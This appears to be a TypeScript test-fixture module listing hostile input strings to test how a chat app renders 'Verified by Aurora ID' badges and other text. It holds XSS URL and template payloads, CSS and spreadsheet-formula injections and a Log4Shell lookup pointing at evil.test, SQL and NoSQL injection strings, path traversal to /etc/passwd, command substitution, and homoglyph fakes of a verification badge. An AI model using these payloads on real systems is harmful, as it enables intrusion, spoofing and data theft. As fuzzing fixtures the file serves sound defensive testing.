import type { HostileClass } from './hostile-strings.ts';
import { act } from './markup-classes.ts';

const evil = 'https://evil.test';
const each = (text: string, write: (letter: string) => string): string =>
  [...text].map(write).join('');

const addresses = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\tscript:${act}`,
  `java\nscript:${act}`,
  `\u0001javascript:${act}`,
  ` javascript:${act}`,
  `javascript&colon;${act}`,
  `javascript\u003a${act}`,
  `javascript://%0a${act}`,
  `javascript://aurora.test/%0a${act}`,
  `vbscript:MsgBox(1)`,
  `data:text/html,<script>${act}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${act}</script>`).toString('base64')}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${act}"/>`,
  `blob:https://chat.test/0000`,
  `filesystem:https://chat.test/x`,
  `file:///etc/passwd`,
  `view-source:${evil}`,
  `about:blank#${evil}`,
  `chrome://settings`,
  `intent://evil.test#Intent;scheme=https;end`,
  `//evil.test/x`,
  `\\\\evil.test\\x`,
  `https:evil.test`,
  `https://chat.test@evil.test/`,
  `https://chat.test%2f@evil.test/`,
  `https://evil.test/${'a'.repeat(200)}`,
  `https://xn--pple-43d.test/`,
  `https://аpple.test/`,
  `http://evil.test/`,
  `ftp://evil.test/`,
  `tel:+41790000000,,1`,
  `mailto:x@evil.test?body=${act}`,
  `www.evil.test`,
];
const framings = [
  (url: string) => url,
  (url: string) => `[Verified](${url})`,
  (url: string) => `![x](${url} "x")`,
  (url: string) => `<${url}>`,
  (url: string) => `see "${url}".`,
];

const templates = [
  `{{constructor.constructor('${act}')()}}`,
  `{{$on.constructor('${act}')()}}`,
  `{$on.constructor('${act}')()}`,
  `{{{${act}}}}`,
  `\${${act}}`,
  `#{${act}}`,
  `<%= ${act} %>`,
  `<% ${act} %>`,
  `{% raw %}{{7*7}}{% endraw %}`,
  `{{7*7}}`,
  `\${7*7}`,
  `[[\${7*7}]]`,
  `*{7*7}`,
  `@{7*7}`,
  `~{7*7}`,
  `#set($x=7*7)\${x}`,
  `{{settings}}`,
  `{{title}}`,
  `{"__html":"<img src=x onerror=owned=1>"}`,
  `{"type":"img","props":{"onError":"owned=1"},"$$typeof":"Symbol(react.element)"}`,
  `dangerouslySetInnerHTML`,
  ...['$&', '$`', "$'", '$1', '$<x>', '$$', '\\0', '%s', '%o', '%c', '%n', '{0}', ':name', '@name'],
];

const sheets = [
  `x:expression(${act})`,
  `background:url(${evil}/css)`,
  `background:url("javascript:${act}")`,
  `}*{display:none}`,
  `}body{background:url(${evil}/css)}`,
  `position:fixed;inset:0;z-index:99999`,
  `--x:url(${evil}/css);background:var(--x)`,
  `@import '${evil}/x.css';`,
  `@font-face{font-family:x;src:url(${evil}/f)}`,
  `behavior:url(${evil}/b.htc)`,
  `-moz-binding:url(${evil}/b.xml#x)`,
  `content:"\\2714 Verified"`,
  `</style><script>${act}</script>`,
  `';color:red;/*`,
  `*/ } .section-heading::after { content: "Verified" } /*`,
];

const code = (...points: number[]): string => String.fromCodePoint(...points);
const range = (from: number, to: number): string[] =>
  Array.from({ length: to - from + 1 }, (_, index) => code(from + index));

const bidi = [...range(0x202a, 0x202e), ...range(0x2066, 0x2069), '\u200e', '\u200f', '\u061c'];
const unseen = [
  ...['\u00ad', '\u034f', '\u115f', '\u1160', '\u17b4', '\u180e', '\u200b', '\u200c', '\u200d'],
  ...['\u2028', '\u2029', '\u2060', '\u2061', '\u2064', '\u206a', '\u206f', '\u2800', '\u3164'],
  ...['\ufe00', '\ufe0f', '\ufeff', '\uffa0', '\ufff9', '\ufffa', '\ufffb', '\ufffc'],
  ...[code(0x1d173), code(0xe0001), code(0xe0041), code(0xe007f), code(0xe0100), '\ue000'],
];
const controls = [...range(0x00, 0x1f), ...range(0x7f, 0x9f), '\ufffe', '\uffff', code(0x10ffff)];

const likeVerified = [
  ...['Verified', 'VERIFIED', 'Vеrified', 'Ѵеrіfіеd', 'Ｖｅｒｉｆｉｅｄ', '𝐕𝐞𝐫𝐢𝐟𝐢𝐞𝐝', 'ⓋⒺⓇⒾⒻⒾⒺⒹ'],
  ...['Verif\u0131ed', 'Veri\ufb01ed', '\u0056\u0435\u0072\u0456\u0066\u0456\u0435\u0064'],
  ...['Not verified', 'From the page · not verified', 'Was verified by Aurora ID', 'Aurora ID'],
];
const ticks = [
  ...['✔', '✔️', '✓', '✅', '☑', '☑️', '🗸', '🗹', '🛡', '🛡️', '⛨', '🔒', '🔐', '🔏', '🏅', '🎖', '🌐'],
  ...[
    '⚠',
    '🟢',
    '🟩',
    '🔰',
    '✖',
    '❌',
    '❎',
    '✔\u200d',
    '\u2714\ufe0e',
    '⍻',
    '√',
    '🆗',
    '💯',
    '⭐',
    'ⓘ',
  ],
];

/** All but markup: addresses, templates, styles, letters that lie, and what breaks parsers. */
export const textClasses: readonly HostileClass[] = [
  { kind: 'address', texts: addresses.flatMap((url) => framings.map((frame) => frame(url))) },
  { kind: 'template', texts: templates },
  { kind: 'style', texts: sheets },
  {
    kind: 'direction',
    texts: bidi.flatMap((mark) => [
      `${mark}deifireV`,
      `Mara${mark}Keller`,
      `${mark}${mark}x${mark}`,
      `4417${mark}8802${mark}`,
      `a${mark}✔ Verified by Aurora ID${mark}b`,
    ]),
  },
  { kind: 'unseen', texts: unseen.flatMap((one) => [`Ma${one}ra`, `${one}Mara${one}`, one]) },
  { kind: 'control', texts: controls.flatMap((one) => [`Ma${one}ra`, `${one}=1+1`]) },
  {
    kind: 'look-alike',
    texts: likeVerified.flatMap((word) => [
      word,
      `${word} by Aurora ID`,
      `<b>${word}</b>`,
      `${word} · 3 minutes ago`,
      ...ticks.map((tick) => `${tick} ${word} by Aurora ID`),
    ]),
  },
  {
    kind: 'piled up',
    texts: [
      `Z${'\u0301'.repeat(40)}algo`,
      each('Verified', (letter) => letter + '\u0336\u0489\u20dd'.repeat(20)),
      `\u0e01${'\u0e49'.repeat(60)}`,
      `\u0301\u0301\u0301 first`,
      `${'\u20e3'.repeat(30)}`,
      '👩‍👩‍👧‍👦'.repeat(40),
      '🏴󠁧󠁢󠁥󠁮󠁧󠁿🇨🇭'.repeat(20),
      'ﷺ'.repeat(60),
      '𒐫'.repeat(60),
    ],
  },
  {
    kind: 'half a character',
    texts: ['\ud83d', '\ude00', '\ude00\ud83d', 'a\ud800b', '\udfff\ud800\udfff', 'ok\ud83d'],
  },
  {
    kind: 'long',
    texts: [
      'W'.repeat(900),
      'i'.repeat(900),
      'word '.repeat(180),
      '\u00a0'.repeat(300),
      '-'.repeat(900),
    ],
  },
  {
    kind: 'name of a prototype',
    texts: [
      ...['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf', 'then'],
      ...[
        'length',
        'undefined',
        'null',
        'NaN',
        'true',
        'false',
        '0',
        '-0',
        '',
        ' ',
        '[object Object]',
      ],
      ...[
        '{"__proto__":{"verified":true}}',
        'constructor.prototype.verified',
        'Object',
        'Infinity',
      ],
    ].filter((text) => text.trim() !== ''),
  },
  {
    kind: 'query',
    texts: [
      ...[
        `' OR 1=1 --`,
        `" OR ""="`,
        `'; DROP TABLE consumers; --`,
        `') UNION SELECT * FROM agents`,
      ],
      ...['1; ATTACH DATABASE "x" AS y', "x' AND sleep(9)='", '%', '_', '*', '\\', "''", '";', '`'],
      ...['{"$ne":null}', '[$regex]=.*', '{"$where":"sleep(9)"}', '*)(uid=*))(|(uid=*', '../../x'],
    ],
  },
  {
    kind: 'formula',
    texts: ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝'].flatMap((start) => [
      `${start}HYPERLINK("${evil}/x","Verified")`,
      `${start}cmd|' /C calc'!A0`,
      `${start}1+1`,
    ]),
  },
  {
    kind: 'log',
    texts: [
      `x\r\n{"level":50,"msg":"consumer verified"}`,
      `x\u001b[2J\u001b[31mverified\u001b[0m`,
      `\u001b]8;;${evil}\u0007x\u001b]8;;\u0007`,
      '${jndi:ldap://evil.test/a}',
      `x%0d%0aSet-Cookie: owned=1`,
      `\u009b31m`,
    ],
  },
  {
    kind: 'parser',
    texts: [
      ...[
        `"}],"x":[{"`,
        `\\u0022`,
        `</script>`,
        '<!--',
        `\\`,
        `\\"`,
        `]]>`,
        `*/`,
        `//`,
        `/*`,
        '#',
        '?',
      ],
      ...[
        '(a+)+$',
        '[',
        '.*',
        '(?=',
        '\\1',
        '{',
        '}',
        '{}',
        '[]',
        '<',
        '>',
        '&',
        '&amp;',
        '&lt;b&gt;',
      ],
      ...[
        '**Verified**',
        '# Verified',
        '- [x] Verified',
        '|a|b|',
        '```',
        '~~x~~',
        ':white_check_mark:',
      ],
      ...[
        '../../../../etc/passwd',
        'C:\\Windows',
        'file.txt\u0000.png',
        'CON',
        '-rf',
        '`id`',
        '$(id)',
      ],
    ],
  },
];
